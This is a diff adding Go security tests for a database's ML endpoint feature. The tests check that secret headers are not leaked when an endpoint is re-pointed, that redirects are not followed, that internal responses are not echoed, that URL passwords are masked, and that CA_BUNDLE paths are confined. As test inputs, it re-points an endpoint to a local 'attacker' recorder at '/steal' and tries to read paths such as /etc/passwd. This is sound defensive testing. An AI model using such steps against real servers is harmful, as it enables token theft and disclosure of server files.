@@ -296,3 +296,90 @@ func TestNoInstanceMetadataByDefault(t *testing.T) {
 	try()
 	require.NotEmpty(t, imds.requests(), "the operator's flag lets the SDK ask it")
 }
+
+// TestEndpointSecrets: an endpoint's secret headers and URL credentials
+// stay with the URL they were given for: ALTER ENDPOINT ... URL needs them
+// again, redirects are not followed, SHOW ENDPOINTS hides URL passwords,
+// and error messages do not echo what a URL's server answered.
+func TestEndpointSecrets(t *testing.T) {
+	model := testserver.StartModelServer(t)
+	model.Set(func(b *testserver.Behaviour) { b.Score = doubler })
+	attacker := startRecorder(t, "")
+	internal := startRecorder(t, "root:x:0:0:internal-secret-page\n")
+	redirector := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		http.Redirect(w, r, attacker.URL+"/redirected", http.StatusTemporaryRedirect)
+	}))
+	t.Cleanup(redirector.Close)
+
+	srv := testserver.Start(t)
+	root := srv.DB("", "multiStatements=true")
+	mustExec(t, root, "CREATE DATABASE ep", "USE ep",
+		fmt.Sprintf("CREATE ENDPOINT prod URL '%s' HEADERS ('Authorization' = 'Bearer owner-s3cret')", model.URL),
+		"CREATE FUNCTION f_prod(x INT) RETURNS INT ALIAS AWS_SAGEMAKER_INVOKE_ENDPOINT ENDPOINT NAME 'prod'",
+		fmt.Sprintf("CREATE ENDPOINT redir URL '%s/invocations' HEADERS ('X-Api-Key' = 'redirected-s3cret')", redirector.URL),
+		"CREATE FUNCTION f_redir(x INT) RETURNS INT ALIAS AWS_SAGEMAKER_INVOKE_ENDPOINT ENDPOINT NAME 'redir'",
+		fmt.Sprintf("CREATE ENDPOINT internal URL '%s/admin'", internal.URL),
+		"CREATE FUNCTION f_internal(x INT) RETURNS INT ALIAS AWS_SAGEMAKER_INVOKE_ENDPOINT ENDPOINT NAME 'internal'",
+		"CREATE ENDPOINT userinfo URL 'http://svc:hunter2@127.0.0.1:9/x'",
+		"CREATE USER mlops IDENTIFIED BY 'pw'", "GRANT CREATE ENDPOINT ON *.* TO mlops")
+	db := srv.DB("ep")
+	mlops := srv.Open(srv.DSN("mlops", "pw", ""))
+
+	// Moving prod elsewhere without giving its headers again is refused.
+	_, err := mlops.Exec(fmt.Sprintf("ALTER ENDPOINT prod URL '%s/steal'", attacker.URL))
+	require.ErrorContains(t, err, "HEADERS")
+	require.EqualValues(t, 42, queryInt(t, db, "SELECT f_prod(21)"))
+	require.Equal(t, "Bearer owner-s3cret", model.LastHeader("Authorization"))
+	// With new headers the move is the mover's own endpoint: the owner's
+	// secret does not travel.
+	mustExec(t, mlops, fmt.Sprintf("ALTER ENDPOINT prod URL '%s/steal' HEADERS ('Authorization' = 'Bearer mlops-own')", attacker.URL))
+	_, _ = db.Exec("SELECT f_prod(21)")
+
+	// A redirect is not followed: neither body nor key reaches its target.
+	_, err = db.Exec("SELECT f_redir(1)")
+	require.ErrorContains(t, err, "redirect")
+
+	// What an internal page says does not come back in the error.
+	_, err = db.Exec("SELECT f_internal(1)")
+	require.Error(t, err)
+	require.NotContains(t, err.Error(), "secret-page", "at most a short prefix of an answer is echoed")
+
+	for _, auth := range attacker.auth {
+		require.NotContains(t, auth, "owner-s3cret")
+		require.NotContains(t, auth, "redirected-s3cret")
+	}
+	require.NotContains(t, attacker.requests(), "POST /redirected", "the redirect must not be followed")
+
+	// URL credentials are secrets in SHOW ENDPOINTS.
+	rows := dump(t, root, "SHOW ENDPOINTS")
+	joined := fmt.Sprint(rows)
+	require.NotContains(t, joined, "hunter2")
+	require.Contains(t, joined, "http://***@127.0.0.1:9/x")
+}
+
+// TestCABundleConfined: CA_BUNDLE paths are server files: inside
+// secure_file_priv, regular, bounded, and refused with one message whatever
+// the reason (no oracle for files outside).
+func TestCABundleConfined(t *testing.T) {
+	root, secure := fileTree(t)
+	require.NoError(t, os.WriteFile(filepath.Join(secure, "notpem.txt"), []byte("hello"), 0o644))
+	srv := testserver.Start(t, "--secure-file-priv", secure)
+	db := srv.DB("")
+	var msgs []string
+	for _, p := range []string{"/dev/zero", "/etc/passwd", "/nonexistent/ca.pem", root + "/outside/secret.txt",
+		secure + "/link_out", secure + "/fifo", secure + "/zero", secure + "/sub"} {
+		ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
+		start := time.Now()
+		_, err := db.ExecContext(ctx, fmt.Sprintf("CREATE ENDPOINT c URL 'https://127.0.0.1:1' CA_BUNDLE '%s'", p))
+		cancel()
+		require.Error(t, err, p)
+		require.Less(t, time.Since(start), 10*time.Second, p)
+		require.ErrorContains(t, err, "secure_file_priv", p)
+		msgs = append(msgs, err.Error())
+	}
+	for _, m := range msgs {
+		require.Equal(t, msgs[0], m, "one message whatever the reason")
+	}
+	_, err := db.Exec(fmt.Sprintf("CREATE ENDPOINT c URL 'https://127.0.0.1:1' CA_BUNDLE '%s/notpem.txt'", secure))
+	require.ErrorContains(t, err, "CA_BUNDLE")
+}
